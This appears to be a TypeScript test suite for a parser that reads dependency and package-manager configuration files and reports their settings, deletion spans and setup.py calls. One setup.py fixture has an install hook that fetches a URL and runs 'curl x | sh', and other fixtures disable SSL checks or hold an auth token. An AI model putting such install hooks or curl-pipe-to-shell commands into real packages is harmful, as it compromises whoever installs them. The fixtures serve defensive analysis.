import assert from 'node:assert/strict';
import { dependencyFacts, parseDependencies } from '../../server/src/model/dependencies/index.ts';

const shown = (path: string, text: string): string[] =>
  parseDependencies(path, text).settings.map(({ section, key, value, keySpan, valueSpan }) => {
    assert.equal(text.slice(keySpan.start, keySpan.end), key);
    if (value !== '') assert.equal(text.slice(valueSpan.start, valueSpan.end), value);
    return `${section}/${key}=${value}`;
  });

/** What is left after each setting by itself was deleted. */
const without = (path: string, text: string): (string | undefined)[] =>
  parseDependencies(path, text).settings.map(
    ({ deletion }) => deletion && text.slice(0, deletion.start) + text.slice(deletion.end),
  );

describe('settings', () => {
  it('are read from every format', () => {
    const cases: readonly (readonly [path: string, text: string, settings: readonly string[]])[] = [
      ['.npmrc', 'a=b ; c\nd = "e;f"\nk[]=l\ng=h#i\n', ['/a=b', '/d=e;f', '/k[]=l', '/g=h']],
      [
        'pip.conf',
        '[global]\ntrusted-host =\n    a\n    b\n',
        ['global/trusted-host=', 'global/trusted-host=a', 'global/trusted-host=b'].map((line) => line),
      ],
      [
        '.yarnrc',
        '# c\nregistry "http://r.example/"\nstrict-ssl false\n"a b" c\n',
        ['/registry=http://r.example/', '/strict-ssl=false', '/a b=c'],
      ],
      ['.yarnrc.yml', 'a: []\nb: [c, d]\ne:\n  - f: g\n', ['/a=[]', '/b=c', '/b=d', 'e[0]/f=g']],
      ['pnpm-workspace.yaml', 'packages: [x]\nneverBuiltDependencies: []\n', ['/neverBuiltDependencies=[]']],
      ['bunfig.toml', '[install]\na = 1\n[test]\nb = 2\n', ['install/a=1']],
      [
        'uv.toml',
        'a = "b"\n[[index]]\nurl = "u"\n[pip]\nl = ["m", "n"]\ne = []\n',
        ['/a=b', 'index[0]/url=u', 'pip/l=m', 'pip/l=n', 'pip/e=[]'],
      ],
      [
        '.cargo/config.toml',
        '[registries]\nmy = { index = "i" }\n[registries.b]\nindex = "j"\n',
        ['registries.my/index=i', 'registries.b/index=j'],
      ],
      ['.cargo/config', '[http]\ncheck-revoke = false\n', ['http/check-revoke=false']],
      [
        'pyproject.toml',
        '[tool.uv]\na = "b"\n[[tool.uv.index]]\nurl = "u"\n[[tool.poetry.source]]\nname = "n"\n[tool.black]\nx = 1\n',
        ['tool.uv/a=b', 'tool.uv.index[0]/url=u', 'tool.poetry.source[0]/name=n'],
      ],
      [
        'Pipfile',
        '[[source]]\nurl = "u"\nverify_ssl = false\n[packages]\nx = "*"\n',
        ['source[0]/url=u', 'source[0]/verify_ssl=false'],
      ],
      [
        'package.json',
        '{"name":"x","scripts":{"a":"b"},"pnpm":{"onlyBuiltDependencies":["c","d"]},"bin":"e","private":true}',
        ['scripts/a=b', 'pnpm/onlyBuiltDependencies=c', 'pnpm/onlyBuiltDependencies=d', '/bin=e', '/private=true'],
      ],
      [
        '.github/dependabot.yml',
        'version: 2\nupdates:\n  - package-ecosystem: npm\n    cooldown:\n      default-days: 5\n',
        ['/version=2', 'updates[0]/package-ecosystem=npm', 'updates[0].cooldown/default-days=5'],
      ],
      [
        'renovate.json5',
        "// c\n{\n  extends: ['a', \"b\"], /* d */\n  minimumReleaseAge: '3 days',\n}\n",
        ['/extends=a', '/extends=b', '/minimumReleaseAge=3 days'],
      ],
      [
        '.vscode/extensions.json',
        '{\n  // c\n  "recommendations": ["a.b", "c.d",],\n}',
        ['/recommendations=a.b', '/recommendations=c.d'],
      ],
      ['.devcontainer/x/devcontainer.json', '{"features":{"f:1":{"v":"2"}}}', ['features/f:1=']],
    ];
    for (const [path, text, settings] of cases) {
      assert.deepEqual(shown(path, text), settings, path);
      assert.deepEqual(shown(path, text.replaceAll('\n', '\r\n')), settings, `${path} with CRLF`);
      assert.deepEqual(parseDependencies(path, text).problems, [], path);
    }
  });

  it('tell what deleting them deletes', () => {
    assert.deepEqual(without('.npmrc', 'a=1\nb=2'), ['b=2', 'a=1']);
    assert.deepEqual(without('.yarnrc.yml', 'a: 1 # c\nb:\n  - x\n  - y\nc: [z]\n'), [
      'b:\n  - x\n  - y\nc: [z]\n',
      'a: 1 # c\nb:\n  - y\nc: [z]\n',
      'a: 1 # c\nb:\n  - x\nc: [z]\n',
      'a: 1 # c\nb:\n  - x\n  - y\n',
    ]);
    assert.deepEqual(without('.yarnrc.yml', 'a:\n  - x\nb: [y, z]\n'), [
      'b: [y, z]\n',
      'a:\n  - x\nb: [z]\n',
      'a:\n  - x\nb: [y]\n',
    ]);
    assert.deepEqual(without('uv.toml', 'a = ["x"]\nb = ["y", "z"]\n'), [
      'b = ["y", "z"]\n',
      'a = ["x"]\nb = ["z"]\n',
      'a = ["x"]\nb = ["y"]\n',
    ]);
    assert.deepEqual(without('package.json', '{"pnpm":{"a":true,"b":["x","y"]}}'), [
      '{"pnpm":{"b":["x","y"]}}',
      '{"pnpm":{"a":true,"b":["y"]}}',
      '{"pnpm":{"a":true,"b":["x"]}}',
    ]);
  });

  it('are told to other files without secrets, and without what a package runs', () => {
    const facts = (path: string, text: string) => dependencyFacts(parseDependencies(path, text)).settings.map(({ key }) => key);
    assert.deepEqual(facts('package.json', '{"scripts":{"a":"b"},"private":true,"pnpm":{"minimumReleaseAge":1}}'), [
      'private',
      'minimumReleaseAge',
    ]);
    assert.deepEqual(facts('.npmrc', '_authToken=abc\nmin-release-age=3\n'), ['min-release-age']);
    assert.deepEqual(facts('.cargo/credentials.toml', '[registry]\ntoken = "abc"\n'), []);
  });
});

describe('setup.py', () => {
  it('tells the commands that it replaces and what it calls', () => {
    const text = `# c
import os, urllib.request as net
from subprocess import (
    run as r,
    check_call,
)
from setuptools import setup
from setuptools.command.install import install

class Custom(install):
    """os.system('x') is only text"""
    def run(self):
        net.urlopen("https://h.example/x")
        os.system('curl x | sh')  # os.system("y")
        r(["curl", "x"])
        self.run_command('x')

setup(name='x', cmdclass={'install': Custom, "build_ext": other.Build, 'n': dict(a=1)})
`;
    assert.deepEqual(
      parseDependencies('setup.py', text).settings.map(({ section, key, value }) => `${section} ${key} ${value}`),
      [
        'call urllib.request.urlopen https://h.example/x',
        'call os.system curl x | sh',
        'call subprocess.run curl x',
        'call self.run_command x',
        'call setuptools.setup ',
        'cmdclass install Custom',
        'cmdclass build_ext other.Build',
        'cmdclass n dict',
        'call dict ',
      ],
    );
    assert.deepEqual(
      parseDependencies('setup.py', text).comments.map((comment) => comment.text),
      ['c', 'os.system("y")'],
    );
  });
});
